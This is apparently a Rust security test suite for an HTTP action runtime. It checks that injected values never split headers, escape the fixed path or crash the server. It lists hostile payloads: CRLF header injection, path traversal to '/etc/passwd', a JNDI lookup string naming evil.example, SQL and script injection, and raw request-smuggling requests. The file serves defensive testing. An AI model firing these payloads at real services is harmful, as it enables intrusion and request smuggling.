//! Hostile caller input: CR, LF, NUL, unicode and path traversal in every place a value lands
//! (path segment, query, header, body, idempotency key, call headers) never splits a header,
//! never changes the host or the fixed path; oversized and deeply nested request bodies get a
//! 4xx, never a crash; malformed requests on the wire get a 4xx and the server keeps serving.

mod common;

use std::collections::HashMap;
use std::time::Duration;

use common::*;
use mca_runtime::stub::{Recorded, Reply, Stub};
use mca_runtime::Config;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const SECRET: &str = "hostile-secret-value-42";

fn payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        "plain",
        "a\r\nX-Injected: 1",
        "a\nX-Injected: 1",
        "a\rX-Injected: 1",
        "\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil.example",
        "a\u{0}b",
        "\u{0}",
        "a\tb",
        "\u{7f}",
        "\u{1b}[31m",
        "..",
        ".",
        "../..",
        "../../admin",
        "..%2f..%2fadmin",
        "%2e%2e",
        "%2E%2E%2F",
        "..\\..\\windows",
        "/etc/passwd",
        "//evil.example/x",
        "?admin=1",
        "#frag",
        "a/b?c#d",
        "%0d%0aX-Injected:%201",
        "%00",
        "@evil.example",
        "evil.example:80@",
        "https://evil.example/",
        "{input.a}",
        "${jndi:ldap://evil.example/a}",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "\u{2028}\u{2029}",
        "\u{202e}gnp.exe",
        "\u{feff}bom",
        "\u{fffd}",
        "\u{d7ff}\u{e000}",
        "🙂 emoji",
        "ünïcödé",
        "日本語",
        "\u{0130}\u{0131}",
        "Ａｄｍｉｎ／．．",
        "\u{2215}\u{2216}",
        "\u{ff0f}",
        "\u{2024}\u{2024}",
        "\u{85}next-line",
        " leading and trailing ",
        "a;b,c",
        "x=1&y=2",
        "%",
        "%zz",
        "+",
        "\"quoted\"",
        "\\",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    p.push("A".repeat(8 * 1024));
    p.push(format!("{}\r\n", "B".repeat(100)));
    p
}

async fn setup() -> (Stub, Running) {
    let stub = Stub::start(vec![Reply::json(200, json!({"value": "v"}))])
        .await
        .unwrap();
    let text = include_str!("fixtures/hostile.mca");
    let ir = mca_compiler::compile_one("hostile.mca", text)
        .ir
        .expect("fixture compiles");
    let config = Config {
        env: Some(HashMap::from([
            ("API_TOKEN".to_string(), SECRET.to_string()),
            (
                "BASE".to_string(),
                "https://forms.example.com/base".to_string(),
            ),
        ])),
        ..Config::default()
    }
    .route("api.example.com", stub.addr())
    .route("forms.example.com", stub.addr());
    let server = start(ir, config).await;
    (stub, server)
}

/// The request the stub got obeys the shape of `echo_path`, whatever the values were.
fn check_request(req: &Recorded, inputs: &Value, call_id: &str) -> Result<(), String> {
    let fail = |m: &str| Err(format!("{m}: {req:?}"));
    if req.method != "POST" {
        return fail("method");
    }
    if req.header("host") != Some("api.example.com") {
        return fail("host changed");
    }
    let url = url::Url::parse(&format!("http://api.example.com{}", req.path)).unwrap();
    let segments: Vec<&str> = url.path_segments().unwrap().collect();
    if segments.len() != 4 || segments[0] != "fixed" || segments[2] != "tail" {
        return fail("fixed path changed");
    }
    for s in [segments[1], segments[3]] {
        let decoded = percent_encoding::percent_decode_str(s).decode_utf8_lossy();
        if s.is_empty() || s == "." || s == ".." || decoded.contains('/') && !s.contains("%2F") {
            return fail("segment escaped");
        }
    }
    // The path values come back exactly, decoded.
    let a = inputs["a"].as_str().unwrap();
    if percent_encoding::percent_decode_str(segments[1]).decode_utf8_lossy() != a {
        return fail("path value altered");
    }
    // Only the headers the action sends, each exactly once.
    let mut names: Vec<&str> = req.headers.iter().map(|(n, _)| n.as_str()).collect();
    names.sort_unstable();
    let expected = [
        "accept",
        "authorization",
        "content-length",
        "content-type",
        "host",
        "idempotency-key",
        "user-agent",
        "x-caller",
        "x-mixed",
    ];
    if names != expected {
        return fail("header set changed");
    }
    // HTTP drops leading and trailing whitespace of header values (RFC 9110 5.5).
    let ows = |s: &str| s.trim_matches([' ', '\t']).to_string();
    if req.header("x-caller").map(ows) != inputs["c"].as_str().map(ows) {
        return fail("header value altered");
    }
    if req.header("authorization") != Some(&format!("Bearer {SECRET}")) {
        return fail("auth header altered");
    }
    if req.header("idempotency-key").map(ows) != Some(ows(&format!("{call_id}-{a}"))) {
        return fail("idempotency key altered");
    }
    let body = req.json().ok_or("body is not JSON")?;
    if body["d"] != inputs["d"] || body["nested"]["list"] != json!([inputs["a"], inputs["b"]]) {
        return fail("body altered");
    }
    let query: Vec<(String, String)> = url.query_pairs().into_owned().collect();
    let wanted = vec![
        ("q".to_string(), inputs["b"].as_str().unwrap().to_string()),
        (
            "extra".to_string(),
            inputs["d"].as_str().unwrap().to_string(),
        ),
    ];
    if query != wanted {
        return fail("query altered");
    }
    if req.path.contains(SECRET) {
        return fail("secret in the URL");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_values_in_every_place_never_change_the_request_shape() {
    let (stub, server) = setup().await;
    let payloads = payloads();
    let mut sent = 0;
    let mut refused = 0;
    let mut problems = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        // The payload in each place in turn, harmless values elsewhere.
        for place in ["a", "b", "c", "d", "e"] {
            let mut inputs = json!({"a": "seg", "b": "q", "c": "hdr", "d": "body", "e": "tail2"});
            inputs[place] = json!(p);
            let call_id = format!("call-{i}");
            stub.set_replies(vec![Reply::json(200, json!({"value": "v"}))]);
            let (status, body) = call(&server, "echo_path", inputs.clone(), Some(&call_id)).await;
            let reqs = stub.requests();
            match (status, reqs.as_slice()) {
                (200, [req]) if body["status"] == "ok" => {
                    sent += 1;
                    if let Err(e) = check_request(req, &inputs, &call_id) {
                        problems.push(format!("{place}={p:?}: {e}"));
                    }
                }
                // Refused before sending: a value that cannot be placed (a line break in a
                // header, an empty, `.` or `..` path segment).
                (200, []) if body["reason"] == "invalid_request" => refused += 1,
                _ => problems.push(format!("{place}={p:?}: {status} {body} {reqs:?}")),
            }
        }
    }
    assert!(problems.is_empty(), "{problems:#?}");
    eprintln!("{sent} hostile requests sent intact, {refused} refused before sending");
    assert!(sent > 200 && refused > 0, "{sent} {refused}");
}

#[tokio::test(flavor = "multi_thread")]
async fn header_values_with_line_breaks_or_nul_are_refused_not_sent() {
    let (stub, server) = setup().await;
    for bad in ["a\r\nX-Injected: 1", "a\nb", "a\rb", "a\u{0}b", "\u{7f}"] {
        let inputs = json!({"a": "seg", "b": "q", "c": bad, "d": "body", "e": "t"});
        let (status, body) = call(&server, "echo_path", inputs, Some("c1")).await;
        assert_eq!(status, 200);
        assert_eq!(body["reason"], "invalid_request", "{bad:?}: {body}");
    }
    assert_eq!(stub.request_count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_action_names_and_call_ids_are_refused_or_contained() {
    let (stub, server) = setup().await;
    for path in [
        "/actions/..%2f..%2fcalls%2fx",
        "/actions/%2e%2e",
        "/actions/echo_path%00",
        "/actions/echo_path%0d%0aX-Injected:%201",
        "/actions/ECHO_PATH",
        "/actions/echo_path/../echo_form",
        "/actions/%C0%AE%C0%AE",
        "/actions/\u{1F642}",
    ] {
        let resp = server
            .client
            .post(server.url(path))
            .body("{}")
            .send()
            .await
            .unwrap();
        let status = resp.status().as_u16();
        assert!((400..500).contains(&status), "{path}: {status}");
    }
    // Call ids are data: whatever they hold, they only land in the idempotency key (one
    // header value) and the body.
    for id in ["../../x", "id with spaces", "日本", "%0d%0a", "a,b;c=d"] {
        stub.set_replies(vec![Reply::json(200, json!({"value": "v"}))]);
        let inputs = json!({"a": "seg", "b": "q", "c": "h", "d": "body", "e": "t"});
        let (status, body) = call(&server, "echo_path", inputs.clone(), Some(id)).await;
        if status == 400 {
            // Not visible ASCII: refused as a header that is not valid text.
            assert_eq!(body["error"]["code"], "invalid_header", "{id}");
            assert!(!id.is_ascii());
            continue;
        }
        assert_eq!(status, 200);
        let req = &stub.requests()[0];
        check_request(req, &inputs, id).unwrap();
        assert_eq!(req.json().unwrap()["nested"]["call"], json!(id));
    }
    assert!(stub.requests().len() <= 1);
}

/// Sends raw bytes, returns the status code of the answer (0 when the connection closed
/// without one).
async fn raw(server: &Running, request: &[u8]) -> u16 {
    let mut s = tokio::net::TcpStream::connect(server.addr).await.unwrap();
    s.write_all(request).await.unwrap();
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), async {
        let mut chunk = [0u8; 4096];
        while let Ok(n) = s.read(&mut chunk).await {
            if n == 0 {
                break;
            }
            buf.extend_from_slice(&chunk[..n]);
            if buf.windows(4).any(|w| w == b"\r\n\r\n") {
                break;
            }
        }
    })
    .await;
    let text = String::from_utf8_lossy(&buf);
    text.split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_requests_on_the_wire_get_a_4xx_or_a_closed_connection() {
    let (stub, server) = setup().await;
    let body = r#"{"a":"s","b":"q","c":"h","d":"d","e":"t"}"#;
    let cases: Vec<Vec<u8>> = vec![
        // NUL and bare CR in a call header.
        format!("POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nX-Call-Id: a\0b\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes(),
        format!("POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nX-Call-Id: a\rb\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes(),
        // Obsolete line folding.
        format!("POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nX-Call-Id: a\r\n b\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes(),
        // Two Content-Lengths, and Content-Length with chunked (request smuggling).
        format!("POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes(),
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
        // Non-UTF-8 call header.
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nX-Call-Id: \xff\xfe\r\nContent-Length: 2\r\n\r\n{}".to_vec(),
        // Invalid UTF-8 body, truncated JSON, a JSON array, huge numbers.
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\n\"\xff\xfe\"".to_vec(),
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n\r\n{\"a\":[".to_vec(),
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n[]".to_vec(),
        b"POST /actions/echo_form HTTP/1.1\r\nHost: x\r\nContent-Length: 12\r\n\r\n{\"n\": 1e999}".to_vec(),
        b"POST /actions/echo_form HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n{\"n\": 99999999999999999999999}".to_vec(),
        // A request line that is not HTTP.
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
        b"GET / HTTP/1.1\r\n\r\n".to_vec(),
        b"POST /actions/echo_path HTTP/9.9\r\nHost: x\r\n\r\n".to_vec(),
    ];
    for (i, c) in cases.iter().enumerate() {
        let status = raw(&server, c).await;
        assert!(
            status == 0 || (400..500).contains(&status),
            "case {i}: {status}"
        );
    }
    assert_eq!(stub.request_count(), 0, "nothing reached the upstream");
    let (status, _) = call(
        &server,
        "echo_path",
        serde_json::from_str(body).unwrap(),
        None,
    )
    .await;
    assert_eq!(status, 200, "the server still serves");
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_and_deeply_nested_bodies_get_a_4xx() {
    let (stub, server) = setup().await;
    let max = server.runtime.config().max_body_bytes;
    let post = |body: Vec<u8>| {
        server
            .client
            .post(server.url("/actions/echo_path"))
            .header("content-type", "application/json")
            .body(body)
            .send()
    };
    let deep = |n: usize| [vec![b'['; n], vec![b']'; n]].concat();
    let deep_obj = |n: usize| [b"{\"a\":".repeat(n), b"1".to_vec(), b"}".repeat(n)].concat();
    let cases: Vec<(&str, Vec<u8>, u16)> = vec![
        ("over the limit", vec![b' '; max + 1], 413),
        ("far over the limit", vec![b'a'; 16 * 1024 * 1024], 413),
        ("nested 200 arrays", deep(200), 400),
        ("nested 30000 arrays", deep(30_000), 400),
        ("nested 10000 objects", deep_obj(max / 6 - 1), 400),
        ("nested 100 within limits", deep(100), 400),
        (
            "a huge string",
            format!("{{\"a\": \"{}\"}}", "x".repeat(max - 20)).into_bytes(),
            422,
        ),
        (
            "many keys",
            format!(
                "{{{}\"z\": 1}}",
                (0..5000)
                    .map(|i| format!("\"k{i}\":1,"))
                    .collect::<String>()
            )
            .into_bytes(),
            422,
        ),
    ];
    for (name, body, expected) in cases {
        let len = body.len();
        let resp = post(body).await;
        match resp {
            Ok(resp) => assert_eq!(resp.status().as_u16(), expected, "{name} ({len} bytes)"),
            // The server may answer 413 and close before the client finished sending.
            Err(e) => assert!(expected == 413, "{name}: {e}"),
        }
    }
    // Chunked (no Content-Length) over the limit is cut while reading.
    let mut chunked =
        b"POST /actions/echo_path HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
            .to_vec();
    for _ in 0..(max / 4096 + 2) {
        chunked.extend_from_slice(b"1000\r\n");
        chunked.extend_from_slice(&[b' '; 4096]);
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    assert_eq!(raw(&server, &chunked).await, 413);
    assert_eq!(stub.request_count(), 0);
    let health = server
        .client
        .get(server.url("/healthz"))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
}
